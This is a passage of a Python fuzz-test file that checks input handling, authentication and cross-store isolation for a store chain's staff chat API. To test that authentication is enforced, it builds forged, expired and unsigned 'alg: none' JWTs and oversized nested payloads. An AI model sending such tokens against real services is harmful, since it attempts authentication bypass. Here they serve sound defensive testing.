        return answer(harness.client.http.get(path, headers=headers))
    return answer(harness.client.http.post(path, headers=headers, body=raw if raw is not None else b"{}"))


def seed_conversation(harness) -> list[str]:
    """A conversation m-1 at the Shanghai store with a few messages; real cursors to page with."""
    for i in range(3):
        status, _ = harness.post_message(message_event(f"消息{i}"))
        assert status == 200
    _, page = staff_call(
        harness, "GET", f"/v1/stores/{SH_STORE}/conversations/m-1/messages", params={"limit": "1"}
    )
    _, inbox = staff_call(
        harness, "GET", f"/v1/stores/{SH_STORE}/conversations", params={"status": "open", "limit": "1"}
    )
    return [c for c in (page["next_cursor"], inbox["next_cursor"]) if c]


@FUZZ
@given(data=st.data())
@example(data=None)
def test_staff_reads_with_any_ids_and_query_never_get_a_5xx(harness, data):
    cursors = getattr(harness, "_fuzz_cursors", None)
    if cursors is None:
        cursors = harness._fuzz_cursors = seed_conversation(harness)
    if data is None:
        draws = [
            (SH_STORE, "m-1", {"limit": "²"}),
            (SH_STORE, None, {"limit": "²", "status": "open"}),
            (SH_STORE, "m-1", {"cursor": "x" * 5000}),
            (SH_STORE, "m-1", {"limit": "9" * 5000}),
            (SH_STORE, None, {"status": "open", "cursor": "!!"}),
        ]
    else:
        store = data.draw(mostly(st.sampled_from([SH_STORE, SH_STORE, LDN_STORE]), path_ids), label="store")
        conversation = data.draw(mostly(st.sampled_from([None, "m-1"]), path_ids), label="conversation")
        params = data.draw(
            st.fixed_dictionaries(
                {},
                optional={
                    "limit": query_values,
                    "cursor": cursor_values(cursors),
                    "status": st.sampled_from(STATUSES) | query_values,
                    "order": st.sampled_from(["asc", "desc"]) | query_values,
                },
            ),
            label="params",
        )
        draws = [(store, conversation, params)]
    for store, conversation, params in draws:
        path = f"/v1/stores/{store}/conversations" + (f"/{conversation}/messages" if conversation else "")

        status, body = staff_call(harness, "GET", path, params=params)

        hypothesis.event(f"HTTP {status}")
        assert status in (200, 400, 404), (status, body, path, params)
        if store not in STORES:
            assert status == 404, (status, body)
        if status == 200:
            assert isinstance(body["items"], list)


REPLY_BODIES = st.one_of(
    json_values,
    st.fixed_dictionaries(
        {"text": member_texts | json_values},
        optional={"client_message_id": ids | st.text(max_size=200) | json_values},
    ),
    st.fixed_dictionaries(
        {"status": st.sampled_from(["open", "resolved", "needs_human", "closed", ""]) | json_values}
    ),
)


@FUZZ
@given(
    data=st.data(),
    action=st.sampled_from(["messages", "status", "read", "video"]),
    conversation=mostly(st.just("m-1"), path_ids),
    body=st.one_of(REPLY_BODIES.map(dump), st.binary(max_size=200)),
)
@example(data=None, action="messages", conversation="m-1", body=b"[" * 100_000)
@example(data=None, action="status", conversation="m-1", body=b'{"status": ' + b"[" * 100_000 + b"}")
@example(data=None, action="messages", conversation="m-1", body=b'{"text": "\\ud800 hi"}')
@example(data=None, action="messages", conversation="m-1", body=dump({"text": "x" * 2001}))
@example(
    data=None, action="messages", conversation="m-1", body=dump({"text": "ok", "client_message_id": "a\n"})
)
def test_staff_writes_with_any_body_never_get_a_5xx(harness, data, action, conversation, body):
    if not getattr(harness, "_fuzz_seeded", False):
        seed_conversation(harness)
        harness._fuzz_seeded = True
    before = rows(harness)

    status, answer_body = staff_call(
        harness, "POST", f"/v1/stores/{SH_STORE}/conversations/{conversation}/{action}", raw=body
    )

    check(status, {200, 400, 404}, answer_body, before, rows(harness))
    if conversation != "m-1" and status != 400:
        assert status == 404, (status, answer_body)


def _tokens() -> list[str | None]:
    now = datetime.now(UTC)
    good = {"subject": "fz", "chain_id": "demo-chain", "role": "chain_admin", "store_ids": []}
    expired = issue_token(JWT_SECRET, **good, now=now - timedelta(days=60))
    forged = issue_token("another-secret-of-at-least-32-bytes!!", **good, now=now)
    unsigned = (
        base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').decode().rstrip("=")
        + "."
        + base64.urlsafe_b64encode(
            json.dumps(
                {
                    "sub": "x",
                    "chain_id": "demo-chain",
                    "role": "chain_admin",
                    "iss": "chairside",
                    "exp": 9999999999,
                }
            ).encode()
        )
        .decode()
        .rstrip("=")
        + "."
    )
    return [
        None,
        "",
        "Bearer",
        "Bearer ",
        f"Bearer {expired}",
        f"Bearer {forged}",
        f"Bearer {unsigned}",
        "Basic dXNlcjpwYXNz",
        f"Bearer {hashlib.sha256(b'x').hexdigest()}",
        "Bearer a.b.c",
    ]


STAFF_ROUTES = [
    ("GET", ""),
    ("GET", "/{c}/messages"),
    ("POST", "/{c}/messages"),
    ("POST", "/{c}/read"),
    ("POST", "/{c}/status"),
    ("POST", "/{c}/video"),
]


@FUZZ
@given(
    data=st.data(),
    route=st.sampled_from(STAFF_ROUTES),
    store=st.sampled_from(STORES) | path_ids,
    conversation=st.sampled_from(["m-1"]) | path_ids,
)
def test_staff_endpoints_without_a_valid_token_get_401(harness, data, route, store, conversation):
    tokens = _tokens()
    authorization = data.draw(
        st.sampled_from(tokens) | st.text(max_size=60).map(lambda t: "Bearer " + t) | st.text(max_size=60),
        label="authorization",
    )
    if authorization and authorization.strip() == f"Bearer {harness.chain['staff_token']}":
        return
    method, suffix = route
    before = rows(harness)

    status, body = staff_call(
        harness,
        method,
        f"/v1/stores/{store}/conversations" + suffix.format(c=conversation),
        raw=dump({"text": "hi", "status": "resolved"}),
        authorization=authorization,
    )

    check(status, {401}, body, before, rows(harness))


@FUZZ
@given(
    route=st.sampled_from(STAFF_ROUTES),
    who=st.sampled_from(["ldn-manager", "other-chain-admin", "sh-stylist"]),
    conversation=st.sampled_from(["m-1"]) | path_ids,
    params=st.dictionaries(st.sampled_from(["limit", "cursor", "status", "order"]), query_values, max_size=3),
)
def test_staff_of_other_stores_get_404(harness, route, who, conversation, params):
    if not getattr(harness, "_fuzz_seeded", False):
        seed_conversation(harness)
        harness._fuzz_seeded = True
    now = datetime.now(UTC)
    token = {
        "ldn-manager": issue_token(
            JWT_SECRET,
            subject="ldn",
            chain_id="demo-chain",
            role="store_manager",
            store_ids=[LDN_STORE],
            now=now,
        ),
        "other-chain-admin": issue_token(
            JWT_SECRET,
            subject="other",
            chain_id="other-chain",
            role="chain_admin",
            store_ids=[SH_STORE, LDN_STORE],
            now=now,
        ),
        "sh-stylist": issue_token(
            JWT_SECRET, subject="sty", chain_id="demo-chain", role="stylist", store_ids=[SH_STORE], now=now
        ),
    }[who]
    store = LDN_STORE if who == "sh-stylist" else SH_STORE
    method, suffix = route
    before = rows(harness)

    status, body = staff_call(
        harness,
        method,
        f"/v1/stores/{store}/conversations" + suffix.format(c=conversation),
        params=params,
        raw=dump({"text": "hi", "status": "resolved"}),
        authorization=f"Bearer {token}",
    )

    check(status, {404}, body, before, rows(harness))
